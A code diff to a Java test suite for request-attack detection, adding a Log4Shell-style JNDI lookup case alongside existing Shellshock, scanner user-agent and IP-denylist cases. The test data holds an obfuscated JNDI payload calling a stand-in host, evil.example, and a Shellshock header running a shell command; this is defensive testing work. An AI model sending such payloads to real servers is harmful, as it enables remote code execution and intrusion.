@@ -65,6 +65,8 @@ class RequestProtectionTest {
                 new RequestAttack("scanner-user-agent", base -> get(base, "api/books/search?q=Emma", "User-Agent",
                         "sqlmap/1.8.2#stable (https://sqlmap.org)")),
                 new RequestAttack("shellshock", base -> get(base, "api/books/search?q=Emma", "Referer", "() { :; }; /bin/bash -c id")),
+                new RequestAttack("jndi-lookup", base -> get(base, "api/books/search?q=Emma", "User-Agent",
+                        "${${lower:j}ndi:ldap://evil.example/a}")),
                 new RequestAttack("ip-denylist", base -> get(base, "api/books/search?q=Emma", CLIENT_HEADER, "203.0.113.9")));
     }
 
@@ -149,7 +151,7 @@ class RequestProtectionTest {
             await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(String.join("\n", batches))
                     .contains("\"rule_id\":\"xss-request\"", "\"rule_id\":\"path-traversal\"",
                             "\"rule_id\":\"command-injection\"", "\"rule_id\":\"scanner-user-agent\"",
-                            "\"rule_id\":\"shellshock\"", "\"rule_id\":\"ip-denylist\"", "\"client_ip\":\"203.0.113.9\""));
+                            "\"rule_id\":\"shellshock\"", "\"rule_id\":\"jndi-lookup\"", "\"rule_id\":\"ip-denylist\"", "\"client_ip\":\"203.0.113.9\""));
             String all = String.join("\n", batches);
             assertThat(all).doesNotContain("\"blocked\":true");
             assertThat(all.split("\"type\":\"attack\"", -1)).as("one event per attack request").hasSize(requestAttacks().size() + 1);
